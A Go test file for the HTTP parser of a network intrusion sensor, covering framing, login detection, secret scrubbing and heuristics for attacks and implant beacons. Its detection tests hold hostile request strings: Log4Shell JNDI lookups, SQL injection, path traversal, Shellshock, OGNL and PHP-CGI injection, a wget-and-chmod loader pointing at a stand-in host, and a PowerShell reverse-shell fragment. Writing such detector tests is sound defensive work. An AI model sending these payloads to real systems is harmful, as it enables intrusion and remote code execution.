package proto

import (
	"bytes"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/brandmelder/brandmelder/sensor/event"
	"github.com/google/go-cmp/cmp"
)

// talk makes a conversation of texts; those of the server begin with "<".
func talk(lines ...string) dialogue {
	var d dialogue
	for _, l := range lines {
		from := event.Client
		if rest, ok := strings.CutPrefix(l, "<"); ok {
			from, l = event.Server, rest
		}
		d = append(d, said{from, []byte(l)})
	}
	return d
}

func hearHTTP(lines ...string) []*HTTP { return hear[*HTTP](&httpParser{}, talk(lines...)) }

// brief is what the framing tests compare.
func brief(records []*HTTP) []string {
	var out []string
	for _, r := range records {
		out = append(out, fmt.Sprintf("%s %s %d %d/%d", r.Method, r.Path, r.Status, r.Body[event.Client], r.Body[event.Server]))
	}
	return out
}

// A page that quotes a shell answers no command, and the look ends with the first lines.
func TestHTTPAnswersOfCommands(t *testing.T) {
	for body, want := range map[string]string{
		"uid=33(www-data) gid=33(www-data) groups=33(www-data)\n":                "id",
		"<pre>uid=0(root) gid=0(root) groups=0(root)</pre>":                      "id",
		"\r\n Volume in drive C has no label.\r\n Volume Serial Number is 1\r\n": "dir",
		"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/:/bin/sh\n":             "accounts",
		"nt authority\\system\r\n":                                               "system",
		"uid=33\n) gid=33\n) groups=33\n":                                        "",
		"the file root:x:0:0 is not it":                                          "",
		strings.Repeat("a", httpAnswerLook) + "\nroot:x:0:0:root\n":              "",
	} {
		got := hearHTTP("GET /a HTTP/1.1\r\n\r\n", fmt.Sprintf("<HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s", len(body), body))
		if len(got) != 1 || got[0].Shell != want {
			t.Errorf("%.30q: %v, want %q", body, got, want)
		}
	}
}

func TestHTTPFraming(t *testing.T) {
	for name, c := range map[string]struct {
		talk []string
		want []string
	}{
		"pipelined": {
			[]string{"GET /a HTTP/1.1\r\n\r\nGET /b HTTP/1.1\r\n\r\n", "<HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nabHTTP/1.1 404 No\r\nContent-Length: 0\r\n\r\n"},
			[]string{"GET /a 200 0/2", "GET /b 404 0/0"},
		},
		"chunked both ways": {
			[]string{"POST /a HTTP/1.1\r\nTransfer-Encoding: gzip, Chunked\r\n\r\n3\r\nabc\r\nA;name=v\r\n0123456789\r\n0\r\nTrailer: x\r\n\r\nGET /b HTTP/1.1\r\n\r\n",
				"<HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nx\r\n0\r\n\r\nHTTP/1.1 204 No\r\n\r\n"},
			[]string{"POST /a 200 13/1", "GET /b 204 0/0"},
		},
		"chunks count more than a length": {
			[]string{"GET /a HTTP/1.1\r\n\r\n", "<HTTP/1.1 200 OK\r\nContent-Length: 900\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nx\r\n0\r\n\r\n"},
			[]string{"GET /a 200 0/1"},
		},
		"HEAD has no body": {
			[]string{"HEAD /a HTTP/1.1\r\n\r\n", "<HTTP/1.1 200 OK\r\nContent-Length: 900\r\n\r\n", "GET /b HTTP/1.1\r\n\r\n", "<HTTP/1.1 304 Same\r\nContent-Length: 9\r\n\r\n"},
			[]string{"HEAD /a 200 0/0", "GET /b 304 0/0"},
		},
		"until the close": {
			[]string{"GET /a HTTP/1.0\r\n\r\n", "<HTTP/1.0 200 OK\r\n\r\nall of ", "<this\r\n\r\nHTTP/1.1 500 too"},
			[]string{"GET /a 200 0/31"},
		},
		"a tunnel": {
			[]string{"CONNECT a.example:443 HTTP/1.1\r\n\r\n", "<HTTP/1.1 200 OK\r\n\r\n", "GET /inside HTTP/1.1\r\n\r\n"},
			[]string{"CONNECT  200 0/0", "GET /inside 0 0/0"},
		},
		"a refused tunnel": {
			[]string{"CONNECT a.example:443 HTTP/1.1\r\n\r\n", "<HTTP/1.1 403 No\r\nContent-Length: 0\r\n\r\n", "GET /b HTTP/1.1\r\n\r\n", "<HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"},
			[]string{"CONNECT  403 0/0", "GET /b 200 0/0"},
		},
		"another protocol from here": {
			[]string{"GET /ws HTTP/1.1\r\nUpgrade: websocket\r\n\r\n", "<HTTP/1.1 101 Switching\r\n\r\n\x81\x05hello"},
			[]string{"GET /ws 101 0/0"},
		},
		"go on, then the answer": {
			[]string{"PUT /a HTTP/1.1\r\nContent-Length: 3\r\nExpect: 100-continue\r\n\r\n", "<HTTP/1.1 100 Continue\r\n\r\n", "abc", "<HTTP/1.1 201 Made\r\nContent-Length: 0\r\n\r\n"},
			[]string{"PUT /a 201 3/0"},
		},
		"answered before it was all sent": {
			[]string{"PUT /a HTTP/1.1\r\nContent-Length: 9\r\n\r\nabc", "<HTTP/1.1 413 Large\r\nContent-Length: 0\r\n\r\n", "defghiGET /b HTTP/1.1\r\n\r\n"},
			[]string{"PUT /a 413 3/0", "GET /b 0 0/0"},
		},
		"never answered":       {[]string{"GET /a HTTP/1.1\r\n\r\n"}, []string{"GET /a 0 0/0"}},
		"only the server seen": {[]string{"<HTTP/1.1 200 OK\r\nContent-Length: 1\r\n\r\nx"}, []string{"  200 0/1"}},
		"line feeds alone":     {[]string{"\r\nGET /a HTTP/1.1\nHost: x\n\n", "<HTTP/1.1 200 OK\nContent-Length: 0\n\n"}, []string{"GET /a 200 0/0"}},
		"a chunk of no size":   {[]string{"PUT /a HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nxyz\r\n", "<HTTP/1.1 200 OK\r\n\r\n"}, []string{"PUT /a 0 0/0"}},
	} {
		if d := cmp.Diff(c.want, brief(hearHTTP(c.talk...))); d != "" {
			t.Errorf("%s (-want +got):\n%s", name, d)
		}
	}
}

func TestHTTPRecord(t *testing.T) {
	got := hearHTTP("POST http://ann:pw@Shop.Example.org:8080/orders/4711/label.pdf?token=x&y=2#z HTTP/1.1\r\nHost: other\r\nUser-Agent: probe\r\n /1\r\n"+
		"Referer: https://from.example/search?q=illness\r\nCookie: sid=abc\r\nAuthorization: Bearer abcdef\r\nContent-Type: Application/JSON;charset=x\r\nContent-Length: 4\r\n\r\n{\"a\"",
		"<HTTP/1.1 200 OK\r\nServer: craft/1\r\nContent-Type: text/html\r\nContent-Disposition: attachment; filename=\"Invoice 7.EXE\"\r\nContent-Length: 6\r\n\r\nMZ\x90\x00\x03\x00")
	want := []*HTTP{{
		Method: "POST", Version: "1.1", Host: "shop.example.org", Port: 8080, Path: "/orders/{id}/label.pdf", Extension: "exe", Query: 11, Parameters: 2,
		UserAgent: "probe /1", Referrer: "from.example", Server: "craft/1", Auth: "bearer", Status: 200,
		Type: [2]string{"application/json", "text/html"}, Body: [2]int64{4, 6}, Class: [2]string{"json", "exe-pe"},
		Target: 34, TargetEntropy: entropy([]byte("/orders/4711/label.pdf?token=x&y=2#z"[:34]), -1),
		Entropy: entropy([]byte(`{"a"`), -1), Printable: 1, Checksum: -1, Cookie: true, looked: true,
	}}
	if d := cmp.Diff(want, got, same); d != "" {
		t.Errorf("-want +got:\n%s", d)
	}
}

func TestHTTPNeverKeepsASecret(t *testing.T) {
	const secret = "s3cr3tv4lue"
	for name, c := range map[string][]string{
		"query":             {"GET /a?k=" + secret + " HTTP/1.1\r\n\r\n"},
		"query of a proxy":  {"GET http://a.example?k=" + secret + " HTTP/1.1\r\n\r\n"},
		"target of a proxy": {"GET http://ann:" + secret + "@a.example/ HTTP/1.1\r\n\r\n"},
		"slash in password": {"GET http://ann:" + secret + "/x@a.example/ HTTP/1.1\r\n\r\n"},
		"tunnel":            {"CONNECT a.example?" + secret + " HTTP/1.1\r\n\r\n"},
		"host":              {"GET /a HTTP/1.1\r\nHost: a.example/" + secret + "\r\n\r\n"},
		"fragment":          {"GET /a#" + secret + " HTTP/1.1\r\n\r\n"},
		"path parameter":    {"GET /a;jsessionid=" + secret + " HTTP/1.1\r\n\r\n"},
		"version":           {"GET /a HTTP/" + secret + "\r\n\r\n"},
		"cookie":            {"GET /a HTTP/1.1\r\nCookie: k=" + secret + "\r\n\r\n", "<HTTP/1.1 200 OK\r\nSet-Cookie: k=" + secret + "\r\n\r\n"},
		"referrer":          {"GET /a HTTP/1.1\r\nReferer: http://a.example/" + secret + "?" + secret + "\r\n\r\n"},
		"basic":             {"GET /a HTTP/1.1\r\nAuthorization: Basic YW5uOnMzY3IzdHY0bHVl\r\n\r\n"},
		"no scheme":         {"GET /a HTTP/1.1\r\nAuthorization: " + secret + "\r\n\r\n"},
		"form":              {"POST /a HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 24\r\n\r\nuser=ann&pwd=" + secret},
		"json":              {"POST /a HTTP/1.1\r\nContent-Type: application/json\r\nContent-Length: 21\r\n\r\n{\"pwd\":\"" + secret + "\"}"},
		"response":          {"GET /a HTTP/1.1\r\n\r\n", "<HTTP/1.1 200 OK\r\nContent-Length: 11\r\n\r\n" + secret},
		"file name":         {"GET /a HTTP/1.1\r\n\r\n", "<HTTP/1.1 200 OK\r\nContent-Disposition: attachment; filename=" + secret + ".pdf\r\n\r\n"},
	} {
		t.Run(name, func(t *testing.T) {
			records := run(&Spec{New: func() Parser { return &httpParser{} }}, talk(c...))
			if len(records) == 0 {
				t.Fatal("no record")
			}
			for _, r := range records {
				line := event.NewLayout(r.Table()).Append(nil, r)
				if bytes.Contains(bytes.ToLower(line), []byte(secret)) || bytes.Contains(line, []byte("YW5uOn")) {
					t.Errorf("%s", line)
				}
				if plain := fmt.Sprintf("%+v", r); strings.Contains(plain, secret) {
					t.Errorf("%s", plain)
				}
			}
		})
	}
}

func TestHTTPLogins(t *testing.T) {
	const form = "POST /in HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: "
	basic := "GET /a HTTP/1.1\r\nAuthorization: Basic YW5uOmhpZGRlbg==\r\n\r\n"
	for name, c := range map[string]struct {
		talk []string
		want []*event.Login
	}{
		"basic, twice": {
			[]string{basic, "<HTTP/1.1 401 No\r\nContent-Length: 0\r\n\r\n", basic, "<HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"},
			[]*event.Login{{Protocol: "http", Method: "basic", User: "ann", Outcome: event.Failure, Reason: "401", Clear: true, Attempt: 1},
				{Protocol: "http", Method: "basic", User: "ann", Outcome: event.Success, Reason: "200", Clear: true, Attempt: 2}},
		},
		"digest shows no password": {
			[]string{"GET /a HTTP/1.1\r\nAuthorization: Digest username=\"ann\",\r\n\trealm=\"x\"\r\n\r\n", "<HTTP/1.1 302 Go\r\nContent-Length: 0\r\n\r\n"},
			[]*event.Login{{Protocol: "http", Method: "digest", User: "ann", Outcome: event.Success, Reason: "302", Attempt: 1}},
		},
		"a folded header": {
			[]string{"GET /a HTTP/1.1\r\nAuthorization:\r\n Basic YW5uOmhpZGRlbg==\r\n\r\n", "<HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"},
			[]*event.Login{{Protocol: "http", Method: "basic", User: "ann", Outcome: event.Success, Reason: "200", Clear: true, Attempt: 1}},
		},
		"a form's answer proves little": {
			[]string{form + "37\r\n\r\nuser[email]=a%40b.example&user[pwd]=x", "<HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"},
			[]*event.Login{{Protocol: "http", Method: "form", User: "a@b.example", Reason: "200", Clear: true, Attempt: 1}},
		},
		"a refused form": {[]string{form + "12\r\n\r\nlog=a&pass=b", "<HTTP/1.1 403 No\r\nContent-Length: 0\r\n\r\n"}, []*event.Login{{Protocol: "http", Method: "form", User: "a", Outcome: event.Failure, Reason: "403", Clear: true, Attempt: 1}}},
		"a form that leads back": {
			[]string{form + "12\r\n\r\nlog=a&pass=b", "<HTTP/1.1 302 Go\r\nLocation: /login?error=1\r\nSet-Cookie: s=1\r\nContent-Length: 0\r\n\r\n"},
			[]*event.Login{{Protocol: "http", Method: "form", User: "a", Outcome: event.Failure, Reason: "302", Clear: true, Attempt: 1}},
		},
		"a form that leads on, with a session": {
			[]string{form + "12\r\n\r\nlog=a&pass=b", "<HTTP/1.1 303 Go\r\nLocation: /start\r\nSet-Cookie: s=1\r\nContent-Length: 0\r\n\r\n"},
			[]*event.Login{{Protocol: "http", Method: "form", User: "a", Outcome: event.Success, Reason: "303", Clear: true, Attempt: 1}},
		},
		"JSON, refused and accepted": {
			[]string{"POST /api HTTP/1.1\r\nContent-Length: 44\r\n\r\n" + `{"Username": "an\"n", "password" : "hidden"}`, "<HTTP/1.1 401 No\r\nContent-Length: 0\r\n\r\n",
				"POST /api HTTP/1.1\r\nContent-Length: 38\r\n\r\n" + `{"a":{"email":"ann","n":1,"pass":"x"}}`, "<HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"},
			[]*event.Login{{Protocol: "http", Method: "form", User: `an\"n`, Outcome: event.Failure, Reason: "401", Clear: true, Attempt: 1},
				{Protocol: "http", Method: "form", User: "ann", Outcome: event.Success, Reason: "200", Clear: true, Attempt: 2}},
		},
		"JSON without a password": {[]string{"POST /api HTTP/1.1\r\nContent-Length: 27\r\n\r\n" + `{"user":"ann","password":0}`, "<HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"}, nil},
		"a search form":           {[]string{form + "9\r\n\r\nname=a&q=", "<HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"}, nil},
		"an empty password":       {[]string{form + "12\r\n\r\nname=a&pass=", "<HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"}, nil},
		"broken base64":           {[]string{"GET /a HTTP/1.1\r\nAuthorization: Basic ###\r\n\r\n"}, nil},
		"without an answer":       {[]string{basic}, []*event.Login{{Protocol: "http", Method: "basic", User: "ann", Clear: true, Attempt: 1}}},
	} {
		got := hear[*event.Login](&httpParser{}, talk(c.talk...))
		if d := cmp.Diff(c.want, got); d != "" {
			t.Errorf("%s (-want +got):\n%s", name, d)
		}
	}
}

// How implants describe the machine that they are on, and what only looks like it.
func TestHTTPSurveys(t *testing.T) {
	for request, want := range map[string]string{
		"GET /a?hwid=1&os=2 HTTP/1.1\r\n\r\n":                                    "fields",
		"GET /a?os=10&ver=2&user=x HTTP/1.1\r\n\r\n":                             "",
		"GET /a?hwid=1 HTTP/1.1\r\n\r\n":                                         "",
		"POST /a HTTP/1.1\r\nUser-Agent: NAME|PC|u|Windows 10|plus|no\r\n\r\n":   "list",
		"POST /a HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0)\r\n\r\n":  "",
		"GET / HTTP/1.1\r\nCookie: a=1:2; _u=4445534B544F50:75736572:41\r\n\r\n": "list",
		"GET / HTTP/1.1\r\nCookie: id=9f86d081884c7d65:9f86d081884c7d65\r\n\r\n": "",
		"POST / HTTP/1.1\r\nContent-Type: multipart/form-data; boundary=x\r\nContent-Length: 55\r\n\r\n--x\r\nContent-Disposition: form-data; name=\"proclist\"\r\n\r\n": "list",
	} {
		if got := hearHTTP(request); len(got) != 1 || got[0].Survey != want {
			t.Errorf("%q: %+v", request, got)
		}
	}
	for body, want := range map[string]bool{
		"aGVsbG8gd29ybGQsIGhlbGxvIHdvcmxkLCBoZWxsbw==": true, "a=aGVsbG8gd29ybGQsIGhlbGxvIHdvcmxkLCBoZWxsb%2Bw%3D": true,
		"0123456789abcdef0123456789abcdef0123": true, "user=ann&page=two&order=asc&filter=none": false, "hello": false,
		"onlylettersonlylettersonlylettersonly": false, "This is a sentence of 10 words or so.": false,
	} {
		if got := isCoded([]byte(body)); got != want {
			t.Errorf("%q is coded: %v", body, got)
		}
	}
	for body, want := range map[string]string{
		"<a:Action>http://schemas.microsoft.com/wbem/wsman/1/windows/shell/Command</a:Action>":                                                    "command",
		"<w:ResourceURI>http://schemas.microsoft.com/wbem/wsman/1/windows/shell/cmd</w:ResourceURI><a:Action>http://x/transfer/Create</a:Action>": "create",
		"<a:Action>http://schemas.xmlsoap.org/ws/2004/09/enumeration/Enumerate</a:Action>":                                                        "",
	} {
		if got := wsmanAction([]byte(body)); got != want {
			t.Errorf("%q: %q", body, got)
		}
	}
	got := hearHTTP("GET /a HTTP/1.1\r\n\r\n", "<HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 46\r\n\r\n$c = New-Object Net.Sockets.TCPClient('a', 80)")
	if len(got) != 1 || got[0].Class[event.Server] != "script" {
		t.Errorf("a script: %+v", got)
	}
}

func TestHTTPPathTemplate(t *testing.T) {
	for path, want := range map[string]string{
		"/":                     "/",
		"/index.html":           "/index.html",
		"/v2/orders/4711":       "/v2/orders/{id}",
		"/p/4711.json":          "/p/{id}.json",
		"/u/ann@example.org/in": "/u/{id}/in",
		"/u/ann%40example.org":  "/u/{id}",
		"/o/6f1c2d3e-aaaa-4bbb-8ccc-0123456789ab/x": "/o/{id}/x",
		"/k/deadbeef01":                    "/k/{id}",
		"/feedface":                        "/feedface",
		"/s/eyJhbGciOiJIUzI1NiIsInR5cCI6":  "/s/{id}",
		"/a/" + strings.Repeat("x", 65):    "/a/{id}",
		"/2024-11-25/report":               "/{id}/report",
		"/a\x00b":                          "/a?b",
		strings.Repeat("/a", 40):           strings.Repeat("/a", 31),
		"/cgi-bin/.%2e/.%2e/bin/sh":        "/cgi-bin/.%2e/.%2e/bin/sh",
		"/wp-content/themes/style-2.0.css": "/wp-content/themes/style-2.0.css",
	} {
		if got := template(path); got != want {
			t.Errorf("%q becomes %q, want %q", path, got, want)
		}
	}
}

func TestHTTPAttackShapes(t *testing.T) {
	for name, c := range map[string]struct {
		request string
		want    []string
	}{
		"jndi in a header":     {"GET / HTTP/1.1\r\nX-Api: ${jndi:ldap://x}\r\n\r\n", []string{"jndi"}},
		"hidden jndi":          {"GET / HTTP/1.1\r\nUser-Agent: ${${lower:j}ndi:x}\r\n\r\n", []string{"jndi"}},
		"jndi in a cookie":     {"GET / HTTP/1.1\r\nCookie: a=${jndi:x}\r\n\r\n", []string{"jndi"}},
		"sql in the query":     {"GET /?id=1%20UNION/**/SELECT+1 HTTP/1.1\r\n\r\n", []string{"sql"}},
		"traversal, twice":     {"GET /%252e%252e/%252e%252e/etc/passwd HTTP/1.1\r\n\r\n", []string{"traversal", "cmd"}},
		"shellshock":           {"GET / HTTP/1.1\r\nUser-Agent: () { :;}; x\r\n\r\n", []string{"cmd"}},
		"script in a form":     {"POST / HTTP/1.1\r\nContent-Length: 12\r\n\r\na=%3Cscript+", []string{"xss"}},
		"class loader":         {"POST /x HTTP/1.1\r\nContent-Length: 47\r\n\r\nclass.module.classLoader.resources.context=a&b=", []string{"code"}},
		"ognl":                 {"GET /x HTTP/1.1\r\nContent-Type: %{(#_memberAccess=x)}\r\n\r\n", []string{"code"}},
		"php of the settings":  {"POST /?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input HTTP/1.1\r\n\r\n", []string{"code"}},
		"loader":               {"GET /shell?cd+/tmp;wget+http://x/a;chmod+777+a HTTP/1.1\r\n\r\n", []string{"cmd"}},
		"nothing":              {"GET /select/union?sleep=1 HTTP/1.1\r\nUser-Agent: Mozilla/5.0 WindowsPowerShell/5.1\r\n\r\n", nil},
		"shellshock, cookie":   {"GET / HTTP/1.1\r\nCookie: () { :;}; x\r\n\r\n", []string{"cmd"}},
		"exchange":             {"POST /autodiscover/autodiscover.json?@a.example/mapi/nspi/ HTTP/1.1\r\n\r\n", []string{"code"}},
		"render array":         {"POST /user HTTP/1.1\r\nContent-Length: 27\r\n\r\nmail[%23post_render][]=exec", []string{"code"}},
		"exchange by itself":   {"POST /autodiscover/autodiscover.json?Email=a@b.example HTTP/1.1\r\n\r\n", nil},
		"what a cookie may be": {"GET / HTTP/1.1\r\nCookie: a=../b\r\n\r\n", nil},
	} {
		got := hearHTTP(c.request)
		if len(got) != 1 {
			t.Fatalf("%s: %d records", name, len(got))
		}
		if d := cmp.Diff(c.want, got[0].Suspicious()); d != "" {
			t.Errorf("%s (-want +got):\n%s", name, d)
		}
	}
}

func TestHTTPBodyClass(t *testing.T) {
	for head, want := range map[string]string{
		"MZ\x90": "exe-pe", "\x7fELF\x02": "elf", "PK\x03\x04": "zip", " \r\n<!DOCTYPE html>": "html", "\xef\xbb\xbf{\"a\"": "json",
		"<?php x": "script", "<?xml ": "xml", "#!/bin/sh": "script", "plain": "", "": "", "L\x00\x00\x00\x01\x14\x02\x00": "lnk",
	} {
		if got := bodyClass([]byte(head)); got != want {
			t.Errorf("%q is %q, want %q", head, got, want)
		}
	}
}

func TestHTTPGapInABody(t *testing.T) {
	var got []*HTTP
	emit := func(r event.Record) { got = append(got, r.(*HTTP)) }
	p := &httpParser{}
	p.Feed(event.Client, []byte("GET /a HTTP/1.1\r\n\r\nGET /b HTTP/1.1\r\n\r\n"), emit)
	p.Feed(event.Server, []byte("HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\nMZ"), emit)
	if !p.Gap(event.Server, 98, emit) {
		t.Error("a gap that ends with the body ends the parsing")
	}
	p.Feed(event.Server, []byte("HTTP/1.1 200 OK\r\nContent-Le"), emit)
	if p.Gap(event.Server, 1, emit) {
		t.Error("a gap in the headers does not end the parsing")
	}
	p.End(emit)
	if d := cmp.Diff([]string{"GET /a 200 0/100", "GET /b 200 0/0"}, brief(got)); d != "" {
		t.Errorf("-want +got:\n%s", d)
	}
}

func TestHTTPFloods(t *testing.T) {
	var many []string
	for range 2 * httpPending {
		many = append(many, "GET /a HTTP/1.1\r\n\r\n")
	}
	p := &httpParser{}
	if n := len(hear[*HTTP](p, talk(many...))); n != 2*httpPending || p.early != httpPending {
		t.Errorf("%d records, %d of them early; want %d, %d", n, p.early, 2*httpPending, httpPending)
	}
	got := hearHTTP(append(many, slices.Repeat([]string{"<HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"}, 2*httpPending)...)...)
	if last := got[len(got)-1]; last.Method != "GET" || last.Status != 200 {
		t.Errorf("after a flood the responses fit no longer: %s %d", last.Method, last.Status)
	}
	long := &httpParser{}
	emit := func(event.Record) {}
	for range 1024 {
		long.Feed(event.Client, []byte(strings.Repeat("GET /", 200)), emit)
	}
	if n := cap(long.sides[0].line.buf); n > 2*httpMaxLine {
		t.Errorf("%d bytes of a line are kept", n)
	}
	heads := &httpParser{}
	if heads.Feed(event.Client, []byte("GET / HTTP/1.1\r\n"+strings.Repeat("a: b\r\n", httpMaxHeaders+1)), emit) {
		t.Error("headers without end are read on")
	}
	folds := &httpParser{}
	folds.Feed(event.Client, []byte("GET / HTTP/1.1\r\na: b\r\n"+strings.Repeat(" folded\r\n", 4096)), emit)
	if n := cap(folds.sides[0].held); n > 2*httpMaxLine {
		t.Errorf("%d bytes of a folded header are kept", n)
	}
}

func TestProbeHTTP(t *testing.T) {
	for data, want := range map[string]Verdict{
		"": More, "G": More, "GET ": More, "GET /": Yes, "GET x": No, "CONNECT ": Yes, "OPTIONS *": Yes, "OPTIONS rtsp:": No, "PROPFIND /": Yes, "get /": No,
		"POST http://": Yes, "EHLO x": No,
	} {
		if got := probeHTTP(event.Client, []byte(data)); got != want {
			t.Errorf("%q: %d, want %d", data, got, want)
		}
	}
	for data, want := range map[string]Verdict{"HTTP/1.": Yes, "HTTP/2": No, "HTT": More, "ICY 200": No} {
		if got := probeHTTP(event.Server, []byte(data)); got != want {
			t.Errorf("server's %q: %d, want %d", data, got, want)
		}
	}
}

func TestHTTPProxyLogin(t *testing.T) {
	d := talk("CONNECT mail.example.org:443 HTTP/1.1\r\nProxy-Authorization: Basic YW5uOng=\r\n\r\n", "<HTTP/1.1 407 no\r\nContent-Length: 0\r\n\r\n",
		"CONNECT mail.example.org:443 HTTP/1.1\r\nProxy-Authorization: Basic YW5uOnk=\r\nAuthorization: Basic Ym9iOno=\r\n\r\n", "<HTTP/1.1 200 go\r\n\r\n")
	want := []*event.Login{
		{Protocol: "http", Method: "proxy-basic", User: "ann", Outcome: event.Failure, Reason: "407", Clear: true, Attempt: 1},
		{Protocol: "http", Method: "proxy-basic", User: "ann", Outcome: event.Success, Reason: "200", Clear: true, Attempt: 2},
	}
	if d := cmp.Diff(want, hear[*event.Login](&httpParser{}, d)); d != "" {
		t.Errorf("-want +got:\n%s", d)
	}
}

// What tells implants from browsers: facts about a request, not its words.
func TestHTTPImplantFacts(t *testing.T) {
	blob := strings.Repeat("QmFzZTY0", 8) + "=="
	got := hearHTTP("GET /aaa9 HTTP/1.1\r\nCookie: "+blob+"\r\n\r\n", "<HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 6\r\n\r\n\x01\x02\x03\x04\x05\x06",
		"GET /a/b HTTP/1.1\r\nAccept-Language: nl\r\nCookie: id="+blob+"\r\n\r\n", "<HTTP/1.1 200 OK\r\nContent-Encoding: br\r\nContent-Length: 5\r\n\r\nhello")
	if len(got) != 2 {
		t.Fatalf("%d records", len(got))
	}
	one, two := got[0], got[1]
	if one.Checksum != (3*'a'+'9')%256 || !one.Blob || one.Languages || one.Encoded || one.Class[event.Server] != "binary" {
		t.Errorf("an implant's: %+v", one)
	}
	if two.Checksum != -1 || two.Blob || !two.Languages || !two.Encoded || two.Class[event.Server] != "" {
		t.Errorf("a browser's: %+v", two)
	}
}
